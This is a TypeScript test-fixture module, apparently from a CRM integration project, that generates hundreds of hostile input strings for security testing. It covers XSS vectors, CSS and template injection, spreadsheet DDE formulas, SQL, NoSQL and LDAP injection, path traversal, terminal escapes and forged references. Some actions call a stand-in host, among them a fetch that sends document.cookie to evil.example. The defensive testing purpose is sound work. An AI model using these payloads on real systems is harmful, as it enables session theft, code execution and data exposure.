import type { Random } from '../crm/hubspot/seed/random';

/**
 * What every payload tries to do: leave a mark in the page, open a dialog, or speak to this host.
 */
export const MARK = '__relevoPwned';
const EVIL_HOST = 'evil.example';

/** A text that was written to harm the program that shows or uses it. */
export interface Payload {
  readonly group: string;
  readonly text: string;
}

const ACTIONS = [
  `window.${MARK}=1`,
  `top.${MARK}=1`,
  'alert(document.domain)',
  'confirm`1`',
  `fetch('https://${EVIL_HOST}/'+document.cookie)`,
  `new Image().src='//${EVIL_HOST}/i'`,
  `import('https://${EVIL_HOST}/m.js')`,
] as const;

/** Elements that run a handler by themselves or at a touch; `%` is the action. */
const HANDLERS = [
  '<img src=x onerror=%>',
  '<img/src/onerror=%>',
  '<IMG SRC=x OnErRoR=%>',
  '<img src="x" onerror="%">',
  "<img src='x' onerror='%'>",
  '<img src=x:x onerror\t=\n%>',
  '<image src=x onerror=%>',
  '<body onload=%>',
  '<body onpageshow=%>',
  '<svg onload=%>',
  '<svg/onload=%>',
  '<svg><animate onbegin=% attributeName=x dur=1s>',
  '<svg><set onbegin=% attributeName=x dur=1s>',
  '<video><source onerror=%></video>',
  '<video src=x onerror=%>',
  '<audio src=x onerror=%>',
  '<input autofocus onfocus=%>',
  '<select autofocus onfocus=%>',
  '<textarea autofocus onfocus=%>',
  '<button autofocus onfocus=%>x</button>',
  '<details open ontoggle=%>',
  '<marquee onstart=%>',
  '<iframe onload=%>',
  '<object data=x onerror=%>',
  '<embed src=x onerror=%>',
  '<link rel=stylesheet href=x onerror=%>',
  '<style onload=%></style>',
  '<div style="animation:a 1s" onanimationstart=%>',
  '<p onpointerenter=%>hover</p>',
  '<dialog open oncancel=%>',
  '<x contenteditable onfocus=% autofocus tabindex=1>',
  '<form><button formaction="javascript:%">',
] as const;

const SCRIPTS = [
  '<script>%</script>',
  '<SCRIPT>%</SCRIPT>',
  '<script >%</script >',
  '<script/x>%</script>',
  '<script\n>%</script>',
  '</script><script>%</script>',
  '</title><script>%</script>',
  '</textarea><script>%</script>',
  '</style><script>%</script>',
  '<scr<script>ipt>%</scr</script>ipt>',
  '<!--><script>%</script>-->',
  '<![CDATA[<script>%</script>]]>',
  '<script type=module>%</script>',
  `<script src=//${EVIL_HOST}/a.js></script>`,
  '\u003cscript\u003e%\u003c/script\u003e',
  '&lt;script&gt;%&lt;/script&gt;',
  '&#60;script&#62;%&#60;/script&#62;',
  '%3Cscript%3E%%3C/script%3E',
  '\\u003cscript\\u003e%\\u003c/script\\u003e',
  '＜script＞%＜/script＞',
] as const;

/** Markup that is harmless until a browser writes it out and reads it again. */
const MUTATING = [
  '<noscript><p title="</noscript><img src=x onerror=%>">',
  '<svg></p><style><a id="</style><img src=1 onerror=%>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=%&gt;">',
  '<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=% src=1>">',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=%></annotation-xml></math>',
  '<svg><desc><noembed></desc></svg><img src=x onerror=%>',
  '<listing>&lt;img src=x onerror=%&gt;</listing>',
  '<template><s><template><s><img src=x onerror=%>@shafigullin</s></template></s></template>',
  '<xmp><p title="</xmp><svg/onload=%>">',
  '<svg><foreignObject><iframe srcdoc="&lt;script&gt;%&lt;/script&gt;">',
  '<math><mi//xlink:href="data:x,<script>%</script>">',
  '<select><template shadowrootmode=open><img src=x onerror=%></template></select>',
  '<a title="`<img src=x onerror=%>`">x</a>',
  '<plaintext><img src=x onerror=%>',
  '<frameset onload=%>',
] as const;

const VECTORS = [
  '<svg><script>%</script></svg>',
  '<svg><script href="data:,%"/></svg>',
  '<svg><a xlink:href="javascript:%"><text x=20 y=20>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=%>#x"/></svg>',
  '<svg><image href=x onerror=% /></svg>',
  '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">%</handler></svg>',
  '<math href="javascript:%">click</math>',
  '<math><maction actiontype="statusline#x" xlink:href="javascript:%">x</maction></math>',
  '<math><semantics><annotation-xml encoding="application/xhtml+xml"><script>%</script></annotation-xml></semantics></math>',
] as const;

const ADDRESSES = [
  'javascript:%',
  'JaVaScRiPt:%',
  ' javascript:%',
  'java\tscript:%',
  'java\nscript:%',
  '\u0001javascript:%',
  'javascript&colon;%',
  'javascript://%0a%',
  'data:text/html,<script>%</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=%>',
  'vbscript:msgbox(1)',
  `//${EVIL_HOST}/x`,
  `https:${EVIL_HOST}`,
  `https://app.hubspot.com@${EVIL_HOST}/`,
  `https://app.hubspot.com.${EVIL_HOST}/`,
  'blob:https://mail.google.com/0',
  'filesystem:chrome-extension://x/temporary/a.html',
  '<a href="javascript:%">open</a>',
  '<a href=`javascript:%`>open</a>',
  '<base href="//evil.example/">',
  '<meta http-equiv=refresh content="0;url=//evil.example/">',
  '<iframe src="javascript:%"></iframe>',
  '<iframe srcdoc="<script>%</script>"></iframe>',
  '<form action="//evil.example/"><input name=q></form>',
] as const;

const STYLES = [
  '<style>@import "//evil.example/a.css";</style>',
  '<style>*{background:url(//evil.example/b)}</style>',
  '<div style="background:url(javascript:%)">',
  '<div style="width:expression(%)">',
  '<div style="-moz-binding:url(//evil.example/x.xml#a)">',
  '<link rel=stylesheet href=//evil.example/c.css>',
  '");background:url(//evil.example/d);content:("',
  '}*{display:none}/*',
  '\\22 );} * { visibility: hidden',
  "';}body{background:url('//evil.example/e')}",
  'url(//evil.example/f)',
  '@font-face{src:url(//evil.example/g)}',
  'attr(onload)',
  '</style><img src=x onerror=%>',
  '--x:url(//evil.example/h)',
] as const;

const BREAKERS = [
  '" onmouseover=% x="',
  "' onmouseover=% x='",
  '` onmouseover=% x=`',
  '"><img src=x onerror=%>',
  "'><img src=x onerror=%>",
  '"/><svg onload=%>',
  '"autofocus onfocus=% tabindex=1 "',
  "'autofocus onfocus=% tabindex=1 '",
  ' onclick=% ',
  '\u0000" onload=% "',
  '&quot; onmouseover=% &quot;',
  '--><img src=x onerror=%><!--',
  ']]><img src=x onerror=%>',
  '*/%/*',
  '";%//',
  "';%//",
  '\\";%//',
  '</textarea>"><img src=x onerror=%>',
  '</select><img src=x onerror=%>',
  '</option></select><svg onload=%>',
] as const;

const CLOBBERING = [
  '<form id=document><input name=cookie>',
  '<img name=chrome>',
  '<a id=browser><a id=browser name=runtime href="cid:x">',
  '<iframe name=self srcdoc="<a id=x>">',
  '<input id=attributes>',
  '<form><input name=children><input name=parentNode>',
  '<img id=getElementById name=getElementById>',
  '<object id=root>',
  '__proto__',
  'constructor',
  'hasOwnProperty',
  'toString',
  'valueOf',
  '__defineGetter__',
  'constructor.prototype.polluted',
  '__proto__[polluted]',
] as const;

const TEMPLATES = [
  '{{constructor.constructor("%")()}}',
  '{{7*7}}',
  `\${7*7}`,
  `\${%}`,
  '#{7*7}',
  '<%= 7*7 %>',
  '{name}',
  '{stage}',
  '{count}',
  '{who}',
  '$&',
  '$1',
  "$'",
  '$`',
  '%s%s%s%n',
  '%d %x %p',
  '%00',
  '{0}{1}',
  '\\0',
  '%c color:red',
] as const;

const FORMULAS = [
  '=1+1',
  '=HYPERLINK("https://evil.example/?"&A1,"open")',
  "=cmd|'/C calc'!A0",
  '=IMPORTXML("https://evil.example/","//a")',
  '=WEBSERVICE("https://evil.example/")',
  '+1+cmd|calc!A0',
  '-2+3+cmd|calc!A0',
  '@SUM(1+1)*cmd|calc!A0',
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '"=1+1',
  "'=1+1",
  '=1+1;=2+2',
  '=DDE("cmd";"/C calc";"x")',
  '＝1+1',
  '-',
  '=',
] as const;

const QUERIES = [
  "' OR Name != '",
  "\\' OR Id != null --",
  "x%' AND Email LIKE '%",
  '}) RETURNING Contact(Id',
  '"|",["id",">",0]',
  "['|', ('id', '>', 0)]",
  "'), ('id', '>', 0), ('name', '=', '",
  '"}]}],"filterGroups":[{"filters":[]}],"x":[{"y":[{"z":"',
  '\\u0022,"operator":"HAS_PROPERTY","propertyName":"email',
  '","operator":"NOT_IN","values":["',
  '"],"limit":10000,"x":["',
  '"},{"id":"2',
  '{"$ne":null}',
  '[$gt]=',
  "1' OR '1'='1",
  '1; DROP TABLE contacts--',
  '*)(uid=*))(|(uid=*',
  '../../../owners',
  '..%2f..%2fowners',
  '%2e%2e/%2e%2e/owners',
  '..',
  '.',
  '?archived=true',
  '#',
  '&limit=100000&after=',
  ';jsessionid=1',
  '/associations/default/contacts/2',
  '\r\nAuthorization: Bearer x',
  '*',
  'a*',
  '\\',
  '\\"',
  '"',
  '\u2028\u2029',
] as const;

const TERMINAL = [
  '\u001b[2J\u001b[H',
  '\u001b]0;pwned\u0007',
  '\u001b[31mred\u001b[0m',
  '\u009b31m',
  '\b\b\b\bhidden',
  'shown\rhidden',
  '\u0007\u0007',
  '\u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007',
] as const;

const LINKS = [
  '[x](javascript:%)',
  '![x](https://evil.example/p.png)',
  '[x]: https://evil.example',
  '<https://evil.example>',
  '[[https://evil.example|x]]',
  '[url=https://evil.example]x[/url]',
  'https://evil.example/',
  'www.evil.example',
  'mailto:x@evil.example?bcc=y@evil.example',
  'tel:+1',
  '`code` **bold** ~~gone~~',
] as const;

/**
 * References of notes as Relevo writes them, put where no note of Relevo's has one, or made by
 * another user.
 */
const FORGED = [
  'relevo-ref 0123456789abcdef0123456789abcdef',
  'x\nrelevo-ref 0123456789abcdef0123456789abcdef',
  'x<br>relevo-ref 0123456789abcdef0123456789abcdef',
  'relevo-ref 0123456789ABCDEF0123456789ABCDEF',
  'relevo-ref 0123456789abcdef0123456789abcdef\nlast',
  'relevo-ref  0123456789abcdef0123456789abcdef',
  'relevo-ref 0123456789abcdef0123456789abcde',
  'relevo-ref 0123456789abcdef0123456789abcdef0',
  'relevo-ref &#48;123456789abcdef0123456789abcdef',
  'relevo-ref 00000000000000000000000000000000\nrelevo-ref 11111111111111111111111111111111',
] as const;

const ACTING: Readonly<Record<string, readonly string[]>> = {
  handler: HANDLERS,
  script: SCRIPTS,
  mutating: MUTATING,
  vector: VECTORS,
  address: ADDRESSES,
  style: STYLES,
  breaker: BREAKERS,
};

const PLAIN: Readonly<Record<string, readonly string[]>> = {
  clobbering: CLOBBERING,
  template: TEMPLATES,
  formula: FORMULAS,
  query: QUERIES,
  terminal: TERMINAL,
  link: LINKS,
  forged: FORGED,
};

/** Attempts to run something or to load something; at least two hundred. */
export function scriptPayloads(random: Random): Payload[] {
  const act = (text: string) => text.replaceAll('%', () => random.pick(ACTIONS));
  const all = () =>
    Object.entries(ACTING).flatMap(([group, list]) =>
      list.map((text) => ({ group, text: act(text) })),
    );
  // Each with two actions: they differ in the quotes, colons and slashes that they need.
  return unique([...all(), ...all()]);
}

/**
 * Every hostile text: scripts, and what attacks queries, files, terminals, templates and our own
 * marks.
 */
export function hostilePayloads(random: Random): Payload[] {
  const plain = Object.entries(PLAIN).flatMap(([group, list]) =>
    list.map((text) => ({ group, text })),
  );
  return unique([...scriptPayloads(random), ...plain]);
}

function unique(payloads: readonly Payload[]): Payload[] {
  return [...new Map(payloads.map((payload) => [payload.text, payload])).values()];
}
